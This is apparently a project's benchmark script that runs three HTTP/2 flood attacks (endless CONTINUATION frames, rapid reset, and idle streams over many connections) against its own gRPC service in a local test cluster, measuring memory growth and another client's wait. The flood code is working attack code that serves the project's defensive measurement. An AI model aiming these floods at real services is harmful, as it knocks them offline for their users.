# SPDX-License-Identifier: Apache-2.0
"""What unauthenticated HTTP/2 floods do to a service, because gRPC 1.51 has no defence against them.

    PYTHONPATH=tests python3 -m bench.floods [SECONDS]

For each flood: what was sent in these seconds over one connection or several, what the process holds then and
after the connections were closed, and how long another client waited. helm/amends/README.md has a run of it.
"""

import socket
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path

from harness import api, paths
from harness.cluster import Cluster, Environment
from harness.errors import Error

HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
STREAMS_OF_A_CONNECTION = 1000
MOST_MB = 3000  # of the process; the machine has to live, too
WAIT_S = 5


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK without Huffman coding."""
    raw = value.encode()
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    out, rest = bytes([127]), len(raw) - 127
    while rest >= 128:
        out, rest = out + bytes([rest % 128 + 128]), rest // 128
    return out + bytes([rest]) + raw


def field(key, value):
    return b"\0" + text(key) + text(value)


CALL = b"".join(field(*pair) for pair in (
    (":method", "POST"), (":scheme", "http"), (":path", "/amends.v1.IntakeService/GetCase"), (":authority", "x"),
    ("content-type", "application/grpc"), ("te", "trailers"),
    ("amends-tenant", "demo"), ("amends-principal", "crm")))


class Attacker:
    """Connections that send and throw away what they get."""

    def __init__(self, address, connections=1):
        host, _, port = address.rpartition(":")
        self.sockets = [socket.create_connection((host, int(port))) for _ in range(connections)]
        for one in self.sockets:
            one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            threading.Thread(target=self._read, args=(one,), daemon=True).start()

    @staticmethod
    def _read(one):
        try:
            while one.recv(1 << 16):
                pass
        except OSError:
            pass

    def send(self, data):
        for one in self.sockets:
            one.sendall(data)

    def close(self):
        for one in self.sockets:
            one.close()


def continuation(attacker, more):
    """A header that never ends."""
    attacker.send(frame(HEADERS, 0, 1, CALL))
    junk = frame(CONTINUATION, 0, 1, b"".join(field(f"k{n}", "v" * 400) for n in range(30)))
    sent = 0
    while more():
        attacker.send(junk * 20)
        sent += 20 * len(junk)
    return f"{sent / 1e6:.0f} MB"


def rapid_reset(attacker, more):
    """Streams that are reset at once, so that their number is never too large."""
    stream = 1
    while more():
        batch = b""
        for _ in range(100):
            batch += frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, CANCEL)
            stream += 2
        attacker.send(batch)
    return f"{stream // 2} streams"


def at_rest(attacker, more):
    """Calls whose request never comes."""
    attacker.send(b"".join(frame(HEADERS, END_HEADERS, 2 * n + 1, CALL) for n in range(STREAMS_OF_A_CONNECTION)))
    while more():
        time.sleep(0.1)
    return f"{len(attacker.sockets) * STREAMS_OF_A_CONNECTION} streams"


FLOODS = (("CONTINUATION frames without end, 1 connection", continuation, 1),
          ("rapid reset, 1 connection", rapid_reset, 1),
          ("streams at rest, 10 connections", at_rest, 10),
          ("streams at rest, 100 connections", at_rest, 100))


def resident_mb(pid):
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS"):
            return int(line.split()[1]) // 1024
    return 0


def other_client_waits(service):
    channel, started = api.channel(service.address), time.monotonic()
    try:
        api.Client(channel, "IntakeService", tenant="acme", principal="crm").ListCases(timeout_s=WAIT_S)
        return f"{(time.monotonic() - started) * 1000:.0f} ms"
    except Error as error:
        return f"{error.code.name} after {time.monotonic() - started:.0f} s"
    finally:
        channel.close()


def measure(cluster, name, flood, connections, seconds):
    service = cluster.replica("intake")
    before, ends = resident_mb(service.pid), time.monotonic() + seconds
    waited = []
    attacker = Attacker(service.address, connections)
    other = threading.Timer(seconds / 2, lambda: waited.append(other_client_waits(service)))
    other.start()
    try:
        sent = flood(attacker, lambda: time.monotonic() < ends and resident_mb(service.pid) < MOST_MB)
    except OSError as error:
        sent = f"cut: {error}"
    during = resident_mb(service.pid)
    other.join()
    attacker.close()
    time.sleep(3)
    print(f"{name}: sent {sent}; resident {before} -> {during} MB, {resident_mb(service.pid)} MB after the end; "
          f"another client meanwhile: {waited[0]}", flush=True)


def main():
    seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 6.0
    with tempfile.TemporaryDirectory(dir=paths.state_folder()) as folder:
        Path(folder).chmod(0o755)
        environment = Environment(folder)
        try:
            for name, flood, connections in FLOODS:
                with Cluster(environment, redis=False) as cluster:
                    measure(cluster, name, flood, connections, seconds)
                    cluster.replica("intake").kill()
        finally:
            environment.close()


if __name__ == "__main__":
    main()
